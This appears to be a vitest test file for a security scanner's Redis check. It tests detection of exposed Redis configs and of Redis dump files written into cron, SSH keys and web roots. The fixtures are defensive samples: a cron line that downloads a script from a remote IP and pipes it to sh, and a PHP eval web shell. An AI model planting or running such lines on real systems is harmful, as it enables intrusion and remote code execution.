import { rmSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { lacks } from '../../../test/need.ts';
import { makeRoot, scanRoot, scanWithout, shown } from '../../../test/throwaway-root.ts';
import { redis } from './check.ts';

const conf = '/etc/redis/redis.conf';
const told = async (text: string, more = {}) => (await scanRoot([redis], { [conf]: { text, mode: 0o640 }, ...more })).findings.map(({ kind, level }) => `${kind} ${level}`);
const elf = (words: string): Buffer => Buffer.concat([Buffer.from([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1]), Buffer.alloc(40), Buffer.from(`\0${words}\0`)]);
const key = `ssh-rsa AAAA${'B3NzaC1yc2EAAAADAQABAAABgQ'.repeat(4)} redis@example`;

describe('redis', () => {
  it('finds open doors', async () => {
    expect(await told('bind 0.0.0.0\nprotected-mode no\nport 6379\n')).toEqual(['weakness critical']);
    expect(await told('protected-mode no\n')).toEqual(['weakness critical']);
    expect(await told('bind 10.0.0.5 127.0.0.1\nprotected-mode no\n')).toEqual(['weakness high']);
    expect(await told('bind *\nrequirepass 123456\n')).toEqual(['weakness high']);
    expect(await told('bind *\nprotected-mode no\naclfile /etc/redis/users.acl\n', { '/etc/redis/users.acl': 'user default off\nuser app on nopass ~* +@all\n' })).toEqual(['weakness high']);
    expect(await told('bind 127.0.0.1\ninclude /etc/redis/more/*.conf\n', { '/etc/redis/more/a.conf': 'bind 0.0.0.0\nprotected-mode no\n' })).toContain('weakness critical');
    expect(await told('bind 127.0.0.1\nunixsocketperm 777\n')).toEqual(['weakness medium']);
    const report = await scanRoot([redis], { [conf]: { text: 'bind 192.0.2.1\nrequirepass kX9-secret-of-mine-2f8a1c\n', mode: 0o644 } });
    expect(shown(report)).toEqual([`low ${conf}`]);
    expect(JSON.stringify(report)).not.toContain('secret-of-mine');
  });

  it('is silent for what is shut, and as packages ship it', async () => {
    for (const text of ['bind 127.0.0.1 -::1\nprotected-mode yes\nport 6379\ndir /var/lib/redis\ndbfilename dump.rdb\n', 'bind 0.0.0.0\n', 'bind 0.0.0.0\nprotected-mode no\nport 0\n', 'bind 0.0.0.0\nprotected-mode no\nuser default on >long-enough-pass ~* +@all\n', 'bind 10.0.0.5\nrequirepass 7d1f0c2e5a9b4c8d\nreplicaof 10.0.0.4 6379\n']) expect(await told(text)).toEqual([]);
  });

  it('finds data that goes where it is run, foreign masters and modules', async () => {
    expect(await told('dir /var/spool/cron\ndbfilename root\n')).toEqual(['intrusion critical', 'intrusion critical']);
    expect(await told('dir /root/.ssh\ndbfilename authorized_keys\n')).toEqual(['intrusion critical', 'intrusion critical']);
    expect(await told('dir /srv/shop\ndbfilename x.php\n', { '/etc/nginx/nginx.conf': 'http { server { root /srv/shop; } }', '/srv/shop/index.html': '' })).toEqual(['intrusion critical', 'weakness medium']);
    expect(await told('slaveof 203.0.113.9 6379\n')).toEqual(['intrusion medium']);
    expect(await told('replicaof 203.0.113.9 6379\nreplicaof no one\n')).toEqual([]);
    expect(await told('loadmodule /tmp/m.so\n', { '/tmp/m.so': elf('x') })).toEqual(['intrusion high']);
    expect(await told('loadmodule /usr/lib/m.so\n', { '/usr/lib/m.so': elf('system.exec') })).toEqual(['intrusion critical']);
    expect(await told('loadmodule /usr/lib/search.so\n', { '/usr/lib/search.so': { text: elf('x'), package: 'redis-search' } })).toEqual([]);
    expect(shown(await scanRoot([redis], { '/var/lib/redis/exp.so': elf('x') }))).toEqual(['high /var/lib/redis/exp.so']);
  });

  it.each([
    ['/var/spool/cron', 'root', 'T1053.003'], ['/var/spool/cron/crontabs', 'root', 'T1053.003'], ['/var/lib/redis', 'root', 'T1053.003'], ['/root/.ssh', 'authorized_keys', 'T1098.004'], ['/root/.ssh', 'root', 'T1098.004'],
    ['/var/www/html', 'x.php', 'T1505.003'], ['/tmp', 'x.so', 'T1210'], ['/etc', 'ld.so.preload', 'T1574.006'], ['/etc', 'rc.local', 'T1037.004'], ['/root', '.bashrc', 'T1546.004'], ['/etc/systemd/system', 'x.so', 'T1543.002'],
  ])('names the technique of a file in %s called %s', async (dir, name, technique) => {
    const { findings } = await scanRoot([redis], { [conf]: { text: `dir ${dir}\ndbfilename ${name}\n`, mode: 0o640 } });
    expect(findings.find(({ title }) => title.en === `the data file of Redis is called ${name}`)?.refs).toEqual([`attack:${technique}`]);
    for (const { refs } of findings) expect(refs).toEqual([`attack:${technique}`]);
  });

  it('finds dumps among jobs, keys and pages, and those that went are gone', async () => {
    const dump = (text: string): Buffer => Buffer.concat([Buffer.from('REDIS0009'), Buffer.from([0xfa, 9]), Buffer.from(`redis-ver\n\n${text}\n\n`), Buffer.from([0xff, 1, 2])]);
    const root = makeRoot({
      '/var/spool/cron/root': dump('*/2 * * * * curl -fsSL http://203.0.113.9/b.sh | sh'), '/root/.ssh/authorized_keys': dump(key), '/var/www/html/a.php': dump('<?php eval($_POST[1]); ?>'), '/var/www/html/old.rdb': dump('names'),
      '/var/lib/redis/dump.rdb': dump('*/2 * * * * curl -fsSL http://203.0.113.9/b.sh | sh'), '/var/lib/redis/temp.rdb': dump('user:1 lin, 5 * 3'), '/etc/cron.d/fine': '* * * * * root true\n',
    });
    const report = await scanRoot([redis], root);
    expect(shown(report)).toEqual(['critical /root/.ssh/authorized_keys', 'critical /var/spool/cron/root', 'critical /var/www/html/a.php', 'medium /var/lib/redis/dump.rdb', 'medium /var/www/html/old.rdb']);
    expect(report.findings.find(({ path }) => path === '/var/spool/cron/root')?.evidence.map(({ value }) => value)).toContain('*/2 * * * * curl -fsSL http://203.0.113.9/b.sh | sh');
    for (const path of ['var/spool/cron/root', 'root/.ssh/authorized_keys', 'var/www/html', 'var/lib/redis/dump.rdb']) rmSync(join(root, path), { recursive: true });
    expect(shown(await scanRoot([redis], root))).toEqual([]);
  });

  it('bears hostile text', async () => {
    expect(await told(`${'"'.repeat(50_000)}\n${'* '.repeat(50_000)}\nbind ${'1.'.repeat(30_000)}\ninclude ${conf}\n`)).toEqual([]);
    expect(shown(await scanRoot([redis], { '/var/lib/redis/dump.rdb': Buffer.from(`REDIS0009${'\n* * * * * '.repeat(50_000)}${'1'.repeat(200_000)}`) }))).toEqual([]);
  });

  it.skipIf(lacks({ root: true }))('says what it could not read', async () => {
    const report = await scanWithout([redis], makeRoot({ [conf]: 'bind 0.0.0.0\n' }), conf);
    expect(report.blind.map(({ what }) => what)).toContain(conf);
  });
});
